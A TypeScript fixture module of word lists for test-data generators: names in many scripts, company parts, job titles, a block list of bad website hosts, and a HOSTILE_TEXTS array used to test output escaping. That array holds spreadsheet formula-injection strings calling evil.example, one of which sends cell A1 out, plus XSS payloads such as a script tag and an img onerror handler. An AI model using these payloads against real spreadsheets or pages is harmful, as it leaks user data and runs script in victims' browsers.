/** Word lists the generators draw from. Variety on purpose: non-Latin names, hostile text, bad sites. */

export const FIRST_NAMES = [
  "James",
  "Mary",
  "Robert",
  "Patricia",
  "John",
  "Jennifer",
  "Michael",
  "Linda",
  "David",
  "Elizabeth",
  "William",
  "Barbara",
  "Richard",
  "Susan",
  "Joseph",
  "Jessica",
  "Thomas",
  "Sarah",
  "Charles",
  "Karen",
  "Priya",
  "Arjun",
  "Wei",
  "Mei",
  "Hiroshi",
  "Yuki",
  "Olga",
  "Dmitri",
  "Fatima",
  "Omar",
  "Sofía",
  "Mateo",
  "Chloé",
  "Zoë",
  "Søren",
  "Björn",
  "Ngozi",
  "Kwame",
  "Aoife",
  "Siobhán",
  "José",
  "Łukasz",
  "François",
  "Ayşe",
  "Nguyễn",
  "Kai",
  "Ana",
  "Luca",
  "Emma",
  "Noah",
] as const;

export const LAST_NAMES = [
  "Smith",
  "Johnson",
  "Williams",
  "Brown",
  "Jones",
  "Garcia",
  "Miller",
  "Davis",
  "Rodriguez",
  "Martinez",
  "Hernandez",
  "Lopez",
  "Gonzalez",
  "Wilson",
  "Anderson",
  "Taylor",
  "Moore",
  "Jackson",
  "Martin",
  "Lee",
  "Patel",
  "Sharma",
  "Zhang",
  "Wang",
  "Tanaka",
  "Suzuki",
  "Ivanova",
  "Petrov",
  "Haddad",
  "Khalil",
  "Müller",
  "Schröder",
  "Dubois",
  "Lefèvre",
  "O'Brien",
  "Ní Bhriain",
  "Kowalczyk",
  "Nowak",
  "Okafor",
  "Mensah",
  "Johansson",
  "Ødegaard",
  "Yılmaz",
  "Papadopoulos",
  "da Silva",
  "van der Berg",
  "Kim",
  "Park",
] as const;

/** Whole names in non-Latin scripts: [first, last, slug-friendly transliteration]. */
export const NON_LATIN_NAMES = [
  ["太郎", "山田", "taro-yamada"],
  ["花子", "佐藤", "hanako-sato"],
  ["伟", "王", "wei-wang"],
  ["秀英", "李", "xiuying-li"],
  ["Иван", "Смирнов", "ivan-smirnov"],
  ["Анна", "Кузнецова", "anna-kuznetsova"],
  ["محمد", "العلي", "mohammed-alali"],
  ["Νίκος", "Παπαδάκης", "nikos-papadakis"],
  ["अनिल", "कुमार", "anil-kumar"],
  ["민준", "김", "minjun-kim"],
  ["יעל", "כהן", "yael-cohen"],
] as const;

export const MIDDLE_NAMES = ["", "", "", "", "A.", "J.", "Marie", "Lee", "K.", "Ann"] as const;

export const COMPANY_NAME_PARTS_A = [
  "Acme",
  "Blue",
  "North",
  "Bright",
  "Quantum",
  "Silver",
  "Apex",
  "Nova",
  "Green",
  "Iron",
  "Summit",
  "Pioneer",
  "Atlas",
  "Vertex",
  "Cedar",
  "Harbor",
  "Lumen",
  "Orbit",
  "Falcon",
  "Crescent",
  "Evergreen",
  "Granite",
  "Horizon",
  "Keystone",
  "Maple",
  "Nimbus",
  "Polar",
  "Redwood",
  "Solar",
  "Tidal",
] as const;

export const COMPANY_NAME_PARTS_B = [
  "Labs",
  "Systems",
  "Analytics",
  "Health",
  "Logistics",
  "Capital",
  "Foods",
  "Media",
  "Works",
  "Dynamics",
  "Networks",
  "Robotics",
  "Energy",
  "Partners",
  "Studios",
  "Software",
  "Bio",
  "Retail",
  "Security",
  "Cloud",
] as const;

export const COMPANY_SUFFIXES = [
  "",
  "",
  "",
  " Inc.",
  " LLC",
  " GmbH",
  " Ltd",
  " S.A.",
  " AG",
  " B.V.",
] as const;

/** Company names in non-Latin scripts, with a Latin domain stem. */
export const NON_LATIN_COMPANIES = [
  ["株式会社サクラ技研", "sakura-giken"],
  ["北京云智科技有限公司", "yunzhi-tech"],
  ["ООО Северный Ветер", "severny-veter"],
  ["شركة النخبة للتقنية", "alnukhba-tech"],
  ["Ελληνική Ναυτιλιακή", "hellenic-shipping"],
  ["삼성물류", "samsung-mulryu"],
  ["टाटा डिजिटल सेवाएं", "tata-digital-sevayen"],
] as const;

export const KEYWORD_TOPICS = [
  "saas",
  "cloud",
  "ai",
  "machine learning",
  "cybersecurity",
  "fintech",
  "payments",
  "ecommerce",
  "logistics",
  "healthcare",
  "telemedicine",
  "analytics",
  "crm",
  "marketing automation",
  "devops",
  "blockchain",
  "iot",
  "robotics",
  "renewables",
  "edtech",
  "hr tech",
  "recruiting",
  "insurance",
  "real estate",
  "construction",
  "supply chain",
  "data platform",
  "open source",
  "mobile",
  "gaming",
] as const;

export const TAGLINES = [
  "Building the future of {topic}",
  "{topic} for modern teams",
  "The {topic} company",
  "Making {topic} simple",
  "Trusted {topic} since {year}",
] as const;

/**
 * Hostile values put into a small share of text fields, so that every path that writes API text
 * into a cell or a page is exercised: formula starters (= + - @), HTML and script-looking text.
 */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
  "=1+1",
  '=IMPORTXML("http://evil.example","//a")',
  "+1 (555) 010-9999",
  "+SUM(A1:A9)",
  "-2+3",
  "- bullet point profile",
  "@channel please read",
  "@SUM(1,2)",
  "<script>alert('xss')</script>",
  "<img src=x onerror=alert(1)>",
  '<b>Bold</b> & <i>italic</i> "quotes"',
  '</div><div style="position:fixed">overlay</div>',
] as const;

/**
 * The bad-website list (23 entries) of company search rule 3, as the spec describes its kinds:
 * URL shorteners, free site builders (and their subdomains), social networks, video and blogging
 * sites, scheduling and freelance-marketplace sites. A company's website on one of these hosts (or
 * a subdomain) makes the company unsuitable, unless the company is that site itself.
 */
export const BAD_WEBSITE_HOSTS = [
  // URL shorteners
  "bit.ly",
  "tinyurl.com",
  "goo.gl",
  "ow.ly",
  // free site builders
  "wixsite.com",
  "weebly.com",
  "wordpress.com",
  "sites.google.com",
  "godaddysites.com",
  "carrd.co",
  "webflow.io",
  "square.site",
  // social networks
  "facebook.com",
  "instagram.com",
  "twitter.com",
  "x.com",
  // video and blogging
  "youtube.com",
  "vimeo.com",
  "medium.com",
  "blogspot.com",
  // scheduling and freelance marketplaces
  "calendly.com",
  "fiverr.com",
  "upwork.com",
] as const;

export const FUNCTIONS = [
  "marketing",
  "sales",
  "engineering",
  "finance",
  "human resources",
  "operations",
  "product management",
  "information technology",
  "legal",
  "customer success",
  "design",
  "research",
  "business development",
  "education",
  "healthcare services",
  "purchasing",
] as const;
export type LeadFunction = (typeof FUNCTIONS)[number];

/** Seniority values the sandbox knows; VP in a persona expands to VP, SVP, EVP and GVP. */
export const SENIORITIES = [
  "Owner",
  "Founder",
  "CXO",
  "Partner",
  "VP",
  "SVP",
  "EVP",
  "GVP",
  "Director",
  "Head",
  "Manager",
  "Senior",
  "Entry",
  "Intern",
] as const;
export type Seniority = (typeof SENIORITIES)[number];

/** Job titles for a function at a seniority; "{F}" is the function in title case. */
export const TITLE_PATTERNS: Record<Seniority, readonly string[]> = {
  Owner: ["Owner", "Owner & {F} Lead"],
  Founder: ["Founder", "Co-Founder, {F}"],
  CXO: ["Chief {F} Officer", "C-level {F} Executive"],
  Partner: ["Partner, {F}", "Managing Partner ({F})"],
  VP: ["VP of {F}", "Vice President, {F}"],
  SVP: ["SVP {F}", "Senior Vice President of {F}"],
  EVP: ["EVP, {F}", "Executive Vice President {F}"],
  GVP: ["GVP {F}", "Group Vice President, {F}"],
  Director: ["Director of {F}", "{F} Director"],
  Head: ["Head of {F}", "Global Head of {F}"],
  Manager: ["{F} Manager", "Manager of {F}"],
  Senior: ["Senior {F} Specialist", "Senior {F} Associate"],
  Entry: ["{F} Associate", "Junior {F} Specialist"],
  Intern: ["{F} Intern", "Intern, {F}"],
};

export const UNIVERSITIES = [
  "Stanford University",
  "University of Oxford",
  "ETH Zürich",
  "東京大学",
  "Universidade de São Paulo",
  "Indian Institute of Technology Bombay",
  "MIT",
  "University of Toronto",
  "Sorbonne Université",
  "Technische Universität München",
  "University of Cape Town",
  "National University of Singapore",
  "Community College of Denver",
  "Open University",
] as const;

export const DEGREES = [
  "Bachelor of Science",
  "Bachelor of Arts",
  "Master of Business Administration",
  "MSc",
  "PhD",
  "Associate Degree",
  "",
] as const;

export const FIELDS_OF_STUDY = [
  "Computer Science",
  "Economics",
  "Marketing",
  "Finance",
  "Psychology",
  "Mechanical Engineering",
  "History",
  "Design",
] as const;

export const LANGUAGES = [
  "English",
  "Spanish",
  "German",
  "French",
  "Mandarin",
  "Japanese",
  "Portuguese",
  "Hindi",
  "Arabic",
  "Russian",
] as const;

export const PROFICIENCIES = [
  "NATIVE_OR_BILINGUAL",
  "FULL_PROFESSIONAL",
  "PROFESSIONAL_WORKING",
  "LIMITED_WORKING",
  "ELEMENTARY",
] as const;

export const SKILLS = [
  "Negotiation",
  "Salesforce",
  "Python",
  "Public Speaking",
  "Project Management",
  "SEO",
  "Excel",
  "Leadership",
  "B2B Sales",
  "Content Strategy",
  "Kubernetes",
  "Financial Modeling",
  "Recruiting",
  "UX Design",
] as const;

export const CERTIFICATIONS = [
  "PMP",
  "AWS Certified Solutions Architect",
  "Google Analytics IQ",
  "HubSpot Inbound",
  "CPA",
  "Scrum Master",
] as const;

export const SUMMARY_LINES = [
  "Passionate about building teams that ship.",
  "10+ years turning {topic} ideas into revenue.",
  "Previously at two startups (one acquired).",
  "Speaker, mentor, occasional writer.",
  "Let's talk about {topic}!",
  "Opinions are my own.",
  "Currently hiring: DM me.",
] as const;

export const POST_TEXTS = [
  "Thrilled to announce our new {topic} launch!",
  "Three lessons I learned about {topic} this year:\n1. Listen\n2. Ship\n3. Repeat",
  "We're hiring across {topic} roles. Reach out!",
  "Great panel today on the future of {topic}.",
  "Hot take: {topic} is underrated.",
] as const;
